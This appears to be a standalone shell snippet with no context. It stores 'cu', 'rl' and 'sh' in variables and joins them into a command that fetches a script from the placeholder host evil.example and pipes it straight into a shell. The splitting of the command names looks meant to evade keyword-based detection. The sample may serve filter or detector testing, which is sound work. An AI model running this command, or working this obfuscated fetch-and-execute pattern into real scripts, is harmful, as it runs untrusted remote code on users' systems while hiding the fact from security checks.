a=cu; b=rl; s=sh
$a$b -fsSL https://evil.example/x | $s
